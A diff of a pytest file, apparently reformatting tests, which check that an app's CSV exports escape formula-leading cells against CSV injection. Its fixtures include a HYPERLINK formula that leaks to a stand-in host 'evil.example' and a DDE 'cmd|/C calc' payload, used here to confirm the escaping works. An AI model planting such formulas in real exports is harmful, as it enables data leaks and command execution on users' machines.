@@ -1,6 +1,7 @@
 """Every CSV download opens in a spreadsheet as data, never as a formula (OWASP CSV Injection).
 
-The app serves three CSVs, the report's systems, judges and topics tables (reports.tables and each task type's tables), in four layouts. Each
+The app serves three CSVs, the report's systems, judges and topics tables (reports.tables and each task type's tables),
+in four layouts. Each
 layout's campaign gets hostile names where users choose them (a judge, systems, a topic, an annotator): every text cell
 that starts with =, +, -, @, a tab or a carriage return comes out behind a single quote, and numbers (a negative
 kappa, a system named "-0.25") stay numbers. Nothing else the app serves is a CSV or TSV: the archive is JSON lines,
@@ -19,10 +20,10 @@ from annotate.services.campaigns import campaign_get_or_create
 from interchange.importers.runs_pool import runs_pool_import
 from judges.models import Judge, ModelJudgment
 from reports.tables import SpreadsheetCsv, spreadsheet_cell, spreadsheet_text
+from tests.agreement.test_agreement_report import small_campaign  # noqa: F401 (fixture)
 from tests.factories import PASSWORD, MembershipFactory, TopicFactory, UserFactory
 from tests.report_support import report_stored
 from tests.tasktypes.test_agreement_ranking import ranking_campaign  # noqa: F401 (fixture)
-from tests.agreement.test_agreement_report import small_campaign  # noqa: F401 (fixture)
 
 JUDGE = '=HYPERLINK("http://evil.example/?leak=1","click")'
 SYSTEM = "@SUM(1+1)*cmd|'/C_calc'!A0"  # no space: a TREC run's tag too
@@ -41,18 +42,43 @@ def _is_number(cell: str) -> bool:
     return True
 
 
-@pytest.mark.parametrize("value,cell", [
-    ('=HYPERLINK("http://x","y")', '\'=HYPERLINK("http://x","y")'), ("+1 555", "'+1 555"), ("-x", "'-x"),
-    ("@SUM(A1)", "'@SUM(A1)"), ("\tx", "'\tx"), ("\r=1", "'\r=1"),
-    ("-0.25", "-0.25"), ("+3", "+3"), ("1e-05", "1e-05"), (-0.25, -0.25), (-3, -3), ("", ""), ("a=b", "a=b"),
-    # text that begins as an escaped cell does is escaped too, so that dropping one quote gives it back
-    ("'=already", "''=already"), ("''", "'''"), ("'a", "'a"), ("'", "'"),
-    # what a spreadsheet passes over first (spaces, a line feed, invisible characters) and full-width signs
-    ("\uff1d1+1", "'\uff1d1+1"), ("\uff0bcmd", "'\uff0bcmd"), ("\uff0dx", "'\uff0dx"), ("\uff20SUM(A1)", "'\uff20SUM(A1)"),
-    (" =1+1", "' =1+1"), ("\u00a0@x", "'\u00a0@x"), ("\u200b=1", "'\u200b=1"), ("\ufeff+x", "'\ufeff+x"),
-    ("\n=1", "'\n=1"), (" -3", " -3"), ("\u200b", "\u200b"), ("a \uff1d b", "a \uff1d b"),
-    ("'\u200b=1", "''\u200b=1"),
-])
+@pytest.mark.parametrize(
+    "value,cell",
+    [
+        ('=HYPERLINK("http://x","y")', '\'=HYPERLINK("http://x","y")'),
+        ("+1 555", "'+1 555"),
+        ("-x", "'-x"),
+        ("@SUM(A1)", "'@SUM(A1)"),
+        ("\tx", "'\tx"),
+        ("\r=1", "'\r=1"),
+        ("-0.25", "-0.25"),
+        ("+3", "+3"),
+        ("1e-05", "1e-05"),
+        (-0.25, -0.25),
+        (-3, -3),
+        ("", ""),
+        ("a=b", "a=b"),
+        # text that begins as an escaped cell does is escaped too, so that dropping one quote gives it back
+        ("'=already", "''=already"),
+        ("''", "'''"),
+        ("'a", "'a"),
+        ("'", "'"),
+        # what a spreadsheet passes over first (spaces, a line feed, invisible characters) and full-width signs
+        ("\uff1d1+1", "'\uff1d1+1"),
+        ("\uff0bcmd", "'\uff0bcmd"),
+        ("\uff0dx", "'\uff0dx"),
+        ("\uff20SUM(A1)", "'\uff20SUM(A1)"),
+        (" =1+1", "' =1+1"),
+        ("\u00a0@x", "'\u00a0@x"),
+        ("\u200b=1", "'\u200b=1"),
+        ("\ufeff+x", "'\ufeff+x"),
+        ("\n=1", "'\n=1"),
+        (" -3", " -3"),
+        ("\u200b", "\u200b"),
+        ("a \uff1d b", "a \uff1d b"),
+        ("'\u200b=1", "''\u200b=1"),
+    ],
+)
 def test_a_cell_that_would_be_a_formula_is_text(value, cell):
     assert spreadsheet_cell(value) == cell
     assert not isinstance(value, str) or spreadsheet_text(cell) == value  # a reader gets the text back
